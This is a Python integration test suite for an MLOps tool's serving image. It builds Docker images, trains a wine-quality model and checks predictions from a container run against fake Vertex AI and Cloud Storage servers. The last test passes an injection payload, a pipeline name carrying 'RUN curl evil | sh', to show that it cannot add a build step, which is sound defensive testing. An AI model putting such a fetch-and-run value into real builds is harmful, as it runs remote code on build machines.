"""The serving container for real: the serving image built as `mlops-bot push` builds it on
backend gcp, then run as Vertex AI runs the model `mlops-bot deploy` registers.

- A git repository holds pipelines/wine_quality as it is here; the real planner plans it, and
  each image is built from its BuildRequest by an ImageBuilder doing what Cloud Build does with
  it (`build_source`'s context and Dockerfile, `docker build -t <uri>:<sha> -t <uri>:ch-<hash>
  -f <Dockerfile> .`): the pipeline image, then its serving image (`serving_images`, what the
  push flow calls), whose ref goes into the registry version's manifest.
- A model is trained in the pipeline image with the pipeline's own src code (what its train
  component does), so it is pickled by the scikit-learn the image has.
- `serving_candidate` (what deploy calls) reads the serving image from the manifest, the real
  VertexModelRegistry registers the model with the fake Vertex, and the container is started
  from the stored upload request (`serving_container`: image, command, args, port, env, plus the
  AIP_* variables Vertex sets), with AIP_STORAGE_URI the gs:// model folder, which the server
  copies from a fake Cloud Storage on this machine (reached from the container's bridge network
  through a small relay, named by STORAGE_EMULATOR_HOST).
"""

from __future__ import annotations

import contextlib
import dataclasses
import ipaddress
import json
import socket
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from google.auth.credentials import AnonymousCredentials

from mlops_bot.backends.gcp.build_source import build_source
from mlops_bot.backends.gcp.clients import GcpClients
from mlops_bot.backends.gcp.models import VertexModelRegistry
from mlops_bot.backends.local.registry import DirectoryRegistry
from mlops_bot.backends.model_types import ModelCandidate
from mlops_bot.backends.types import BuildRequest, BuildResult
from mlops_bot.config import ApiEndpoints, Config, GcpConfig, parse_config
from mlops_bot.errors import UserError
from mlops_bot.repo.git import GitRepo
from mlops_bot.repo.plan import Plan
from mlops_bot.repo.planner import ChangePlanner
from mlops_bot.serving_image import MANIFEST_KEY, serving_candidate, serving_images
from tests.support.docker import docker, require_docker
from tests.support.fake_gcs import FakeGcs
from tests.support.fake_vertex_models import FakeVertexModels, serving_container
from tests.support.gitrepo import GitRepoBuilder
from tests.support.models import candidate

PROJECT, REGION = "test-project", "europe-west4"
REPOSITORY = f"{REGION}-docker.pkg.dev/{PROJECT}/images"
PIPELINE = Path(__file__).resolve().parents[2] / "pipelines" / "wine_quality"
SAMPLE = json.loads((PIPELINE / "serving" / "sample_instances.json").read_text())
CONFIG = f"""\
backend: gcp
gcp: {{project: {PROJECT}, region: {REGION}, artifact_repository: images,
      registry_bucket: registry}}
"""
ARTIFACT = "runs/wine-quality-1/train/model"  # the KFP Model artifact the train task writes
TRAIN = """\
from src.data import TARGET, load_wine_frame, split
from src.model import save_model, train_model
train, _ = split(load_wine_frame(), test_size=0.2, random_state=42)
features = train.drop(columns=[TARGET])
save_model(train_model(features, train[TARGET], 20, 0, 42), "/out/model")
print(",".join(features.columns))
"""


class CloudBuildSteps:
    """An ImageBuilder doing with each request what Cloud Build's step does (CloudBuildBuilder's
    build spec), with the local engine; images are tagged with their Artifact Registry URI."""

    def __init__(self) -> None:
        self.requests: list[BuildRequest] = []

    def build(self, requests: Sequence[BuildRequest]) -> list[BuildResult]:
        self.requests += requests
        return [self._build(r) for r in requests]

    def _build(self, request: BuildRequest) -> BuildResult:
        image, source = request.image, build_source(request)
        uri = f"{REPOSITORY}/{image.name}"
        ref = f"{uri}:ch-{image.content_hash[:40]}"
        args = ["build", "-t", f"{uri}:{request.git_sha}", "-t", ref]
        for key, value in source.build_args.items():
            args += ["--build-arg", f"{key}={value}"]
        built = docker(*args, "-f", str(source.context / source.dockerfile), str(source.context),
                       check=False)
        if built.returncode != 0:
            tail = "\n".join((built.stdout + built.stderr).splitlines()[-15:])
            return BuildResult(image.name, image.content_hash, "failed", None,
                               f"docker build failed:\n{tail}")
        return BuildResult(image.name, image.content_hash, "built", ref)


class Relay:
    """Forwards connections made to `host` (this machine's address on Docker's bridge) to a
    server listening on 127.0.0.1 only, so a container reaches the fake Cloud Storage."""

    def __init__(self, host: str, target: tuple[str, int]) -> None:
        self.target = target
        self.server = socket.create_server((host, 0))
        self.address = f"{host}:{self.server.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        self.server.close()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.server.accept()
            except OSError:
                return
            upstream = socket.create_connection(self.target)
            for source, sink in ((client, upstream), (upstream, client)):
                threading.Thread(target=_pipe, args=(source, sink), daemon=True).start()


def _pipe(source: socket.socket, sink: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


class BridgedGcs(FakeGcs):
    """The fake Cloud Storage as a container reaches it through the relay: the object links it
    answers (mediaLink, which the client downloads from) name the relay's address."""

    public: str | None = None

    @property
    def endpoint(self) -> str:
        return self.public or super().endpoint


@dataclass(frozen=True)
class Served:
    plan: Plan
    pipeline_image: str
    serving_image: str
    notes: list[str]
    builder: CloudBuildSteps
    features: list[str]
    model: bytes = dataclasses.field(repr=False)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Served:
    """What a push of pipelines/wine_quality builds, and a model trained in its image; once."""
    require_docker()
    repo = GitRepoBuilder(tmp_path_factory.mktemp("repo") / "repo")
    base = repo.commit({"README.md": "models\n"})
    head = repo.commit({f"pipelines/wine_quality/{p.relative_to(PIPELINE).as_posix()}":
                        p.read_text() for p in sorted(PIPELINE.rglob("*"))
                        if p.is_file() and "__pycache__" not in p.parts})
    plan = ChangePlanner(GitRepo(repo.path)).plan(base, head)
    builder = CloudBuildSteps()
    builds = builder.build([BuildRequest(i.image, p.name, head, repo.path)
                            for p in plan.pipelines for i in p.images])
    refs = {b.image: b.ref for b in builds if b.ref}
    assert set(refs) == {"wine_quality"}, builds
    serving, notes = serving_images(_config(), builder, plan, refs)
    out = tmp_path_factory.mktemp("model")
    out.chmod(0o777)  # the pipeline image runs as its own non-root user
    trained = docker("run", "--rm", "-v", f"{out}:/out", refs["wine_quality"], "python3", "-c",
                     TRAIN)
    return Served(plan, refs["wine_quality"], serving.get("wine_quality", ""), notes, builder,
                  trained.stdout.strip().splitlines()[-1].split(","),
                  (out / "model").read_bytes())


@pytest.fixture
def vertex(tmp_path: Path) -> Iterator[FakeVertexModels]:
    with FakeVertexModels(files=tmp_path / "gcs") as fake:
        yield fake


def _config() -> Config:
    return parse_config(CONFIG, "mlops.yaml")


def _published(tmp_path: Path, manifest: dict[str, Any]) -> tuple[DirectoryRegistry, str]:
    """A registry holding one version of wine_quality with `manifest`, as the push wrote it."""
    registry = DirectoryRegistry(tmp_path / "registry")
    return registry, registry.publish("wine_quality", b"spec", manifest).version


def _candidate(version: str, **extra: Any) -> ModelCandidate:
    """What deploy makes of a run's Model artifact (promote_inputs.model_candidate)."""
    return candidate("wine-quality-1", f"gs://models/{ARTIFACT.rsplit('/', 1)[0]}",
                     registry_version=version, git_sha="1" * 40, classes=(0, 1, 2), **extra)


def _registry(vertex: FakeVertexModels) -> VertexModelRegistry:
    config = GcpConfig(project=PROJECT, region=REGION, artifact_repository="images",
                       registry_bucket="registry",
                       api_endpoints=ApiEndpoints(aiplatform=vertex.endpoint))
    return VertexModelRegistry(GcpClients(config, AnonymousCredentials()), poll_seconds=0.02)


def _bridge_address() -> str:
    """This machine's address on Docker's default bridge network (its gateway)."""
    subnet = docker("network", "inspect", "bridge", "--format",
                    "{{(index .IPAM.Config 0).Subnet}}").stdout.strip()
    return str(next(ipaddress.ip_network(subnet).hosts()))


@contextlib.contextmanager
def _running(spec: Any, extra_env: dict[str, str]) -> Iterator[str]:
    """The container as Vertex starts it, with its port published on 127.0.0.1; yields the
    base URL once the port answers, and removes the container afterwards."""
    name = f"mlops-serving-test-{time.monotonic_ns()}"
    env = [f"--env={key}={value}" for key, value in {**spec.env, **extra_env}.items()]
    entry = [f"--entrypoint={spec.command[0]}"] if spec.command else []
    docker("run", "--detach", f"--name={name}", f"--publish=127.0.0.1::{spec.port}", *env,
           *entry, spec.image, *spec.command[1:], *spec.args)
    try:
        mapped = docker("port", name, f"{spec.port}/tcp").stdout.splitlines()[0].strip()
        yield f"http://{mapped}"
    finally:
        logs = docker("logs", name, check=False)
        print(logs.stdout[-3000:], logs.stderr[-3000:])
        docker("rm", "--force", name, check=False)


def _request(url: str, body: dict[str, Any] | None = None,
             timeout: float = 60.0) -> tuple[int, dict[str, Any]]:
    """The first answer from `url` (GET, or POST of `body`), retried while the server starts."""
    data = json.dumps(body).encode() if body is not None else None
    deadline = time.monotonic() + timeout
    while True:
        try:
            with urllib.request.urlopen(urllib.request.Request(
                    url, data=data, headers={"Content-Type": "application/json"}),
                    timeout=10) as answer:
                return answer.status, json.loads(answer.read())
        except urllib.error.HTTPError as error:
            if error.code != 503 or time.monotonic() > deadline:
                return error.code, json.loads(error.read() or b"{}")
        except (ConnectionError, urllib.error.URLError, OSError):
            if time.monotonic() > deadline:
                raise
        time.sleep(0.3)


# -- the serving image ---------------------------------------------------------------------

@pytest.mark.docker
def test_a_push_builds_the_serving_image_from_the_pipeline_image(docker_engine: None,
                                                                 served: Served) -> None:
    request = served.builder.requests[-1]
    assert (request.image.name, request.image.kind) == ("wine_quality-serving", "serving")
    assert served.serving_image.startswith(f"{REPOSITORY}/wine_quality-serving:ch-")
    assert served.notes == [f"wine_quality: models are served by {served.serving_image} (built)"]
    # Built FROM the pipeline image (its layers come first), keeping its user and workdir.
    pipeline, serving = (json.loads(docker("image", "inspect", "--format", "{{json .}}",
                                           ref).stdout)
                         for ref in (served.pipeline_image, served.serving_image))
    layers = pipeline["RootFS"]["Layers"]
    assert serving["RootFS"]["Layers"][:len(layers)] == layers
    assert (serving["Config"]["User"], serving["Config"]["WorkingDir"]) == (
        "pipeline", "/opt/wine_quality")
    # The same pipeline image again: the same content hash, so the same serving image.
    again, _ = serving_images(_config(), served.builder, served.plan,
                              {"wine_quality": served.pipeline_image})
    assert again == {"wine_quality": served.serving_image}


@pytest.mark.docker
def test_the_deployed_model_serves_the_sample_instances_as_vertex_runs_it(
        docker_engine: None, served: Served, vertex: FakeVertexModels, tmp_path: Path) -> None:
    registry, version = _published(tmp_path, {"images": {"wine_quality": served.pipeline_image},
                                              MANIFEST_KEY: served.serving_image})
    model = serving_candidate(_config(), registry, _candidate(
        version, image=served.pipeline_image, feature_names=tuple(served.features)))
    registered = _registry(vertex).register(model)
    [stored] = vertex.versions("wine_quality")
    spec = serving_container(stored, storage_uri=stored["artifactUri"],
                             deployed_model_id="7001", endpoint_id="4001")
    assert spec.image == served.serving_image == registered.serving_image

    with BridgedGcs(buckets=["models"]) as gcs:
        gcs.put("models", ARTIFACT, served.model)
        relay = Relay(_bridge_address(), ("127.0.0.1", int(gcs.endpoint.rsplit(":", 1)[1])))
        gcs.public = f"http://{relay.address}"
        try:
            with _running(spec, {"STORAGE_EMULATOR_HOST": gcs.public}) as url:
                health_status, health = _request(url + spec.env["AIP_HEALTH_ROUTE"])
                status, answer = _request(url + spec.env["AIP_PREDICT_ROUTE"], SAMPLE)
                by_name = {"instances": [dict(zip(served.features, SAMPLE["instances"][0],
                                                  strict=True))],
                           "parameters": {"probabilities": True}}
                named_status, named = _request(url + spec.env["AIP_PREDICT_ROUTE"], by_name)
        finally:
            relay.close()

    assert health_status == 200 and health["status"] == "ok", health
    assert health["deployed"][0]["deployed_model_id"] == "7001"
    assert health["deployed"][0]["feature_names"] == served.features
    assert status == 200, answer
    assert answer["predictions"] == [0, 1, 2] and answer["deployedModelId"] == "7001"
    assert named_status == 200, named
    [first] = named["predictions"]
    assert first["class"] == 0 and len(first["probabilities"]) == 3


@pytest.mark.docker
def test_a_pipeline_image_that_cannot_load_models_gets_no_serving_image(
        docker_engine: None, served: Served) -> None:
    found, [note] = serving_images(_config(), served.builder, served.plan,
                                   {"wine_quality": "python:3.11-slim"})
    assert found == {}
    assert note.startswith("wine_quality: no serving image, so its models cannot be deployed "
                           "to Vertex AI: docker build failed")
    assert "the pipeline image cannot import joblib and numpy" in note


# -- refused before anything is uploaded -----------------------------------------------------

def test_a_model_of_a_framework_nothing_serves_is_refused_before_upload(
        vertex: FakeVertexModels, tmp_path: Path) -> None:
    registry, version = _published(tmp_path, {MANIFEST_KEY: f"{REPOSITORY}/w-serving:ch-1"})
    with pytest.raises(UserError, match=r"run wine-quality-1 of wine_quality is a 'tensorflow' "
                                        r"model, which mlops-bot has no serving image for"):
        _registry(vertex).register(serving_candidate(
            _config(), registry, _candidate(version, framework="tensorflow")))
    assert vertex.requests == []


def test_a_version_whose_push_built_no_serving_image_is_refused_before_upload(
        vertex: FakeVertexModels, tmp_path: Path) -> None:
    registry, version = _published(tmp_path, {"images": {"wine_quality": "x"}})
    with pytest.raises(UserError, match=rf"registry version {version} of wine_quality has no "
                                        r"serving image .* push a change to "
                                        r"pipelines/wine_quality"):
        serving_candidate(_config(), registry, _candidate(version))
    assert vertex.requests == []


def test_the_local_backend_builds_no_serving_image_and_refuses_the_same_frameworks(
        tmp_path: Path) -> None:
    local, builder = parse_config("backend: local\n", "mlops.yaml"), CloudBuildSteps()
    plan = Plan("a" * 40, "b" * 40, None)
    assert serving_images(local, builder, plan, {"wine_quality": "x"}) == ({}, [])
    registry, version = _published(tmp_path, {})
    sklearn = _candidate(version)
    assert serving_candidate(local, registry, sklearn) == sklearn  # `mlops-bot serve` serves it
    with pytest.raises(UserError, match=r"is a 'xgboost' model, which mlops-bot has no serving"):
        serving_candidate(local, registry, dataclasses.replace(sklearn, framework="xgboost"))
    assert builder.requests == []


def test_a_cloud_storage_that_does_not_answer_fails_the_copy_in_one_sentence(
        tmp_path: Path) -> None:
    from google.cloud import storage

    from mlops_bot.serving.download import download_model

    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    client = storage.Client(project="p", credentials=AnonymousCredentials(),
                            client_options={"api_endpoint": f"http://127.0.0.1:{port}"})
    started = time.monotonic()
    with pytest.raises(UserError, match=r"AIP_STORAGE_URI=gs://models/wine/3: Cloud Storage did "
                                        r"not answer within 1 s"):
        download_model("gs://models/wine/3", tmp_path, client, deadline=1.0)
    assert time.monotonic() - started < 10


def test_the_server_imports_only_what_the_serving_image_holds() -> None:
    import subprocess
    import sys

    import mlops_bot.serving_image as serving_image

    code = ("import sys, mlops_bot.serving, mlops_bot.serving.app, mlops_bot.serving.download; "
            "print(' '.join(sorted(m for m in sys.modules if m.startswith('mlops_bot'))))")
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            check=True).stdout.split()
    held = {"mlops_bot", *(f"mlops_bot.{n.removesuffix('.py')}"
                           for n in serving_image._SERVER_FILES)}
    assert {m for m in loaded if m not in held and not m.startswith("mlops_bot.serving.")} == set()


def test_a_pipeline_name_never_adds_a_step_to_the_serving_dockerfile(tmp_path: Path) -> None:
    from mlops_bot.serving_image import serving_image_request

    request = serving_image_request("w\nRUN curl evil | sh", f"{REPOSITORY}/w:ch-1", "a" * 40,
                                    tmp_path)
    text = (tmp_path / (request.image.dockerfile or "")).read_text()
    steps = [line.split()[0] for line in text.splitlines() if line and line[0] not in "# "]
    assert steps == ["FROM", "USER", "RUN", "RUN", "COPY", "FROM", "COPY", "ENV", "EXPOSE", "CMD"]
    assert "curl" not in text.replace("w-run-curl-evil-sh", "")
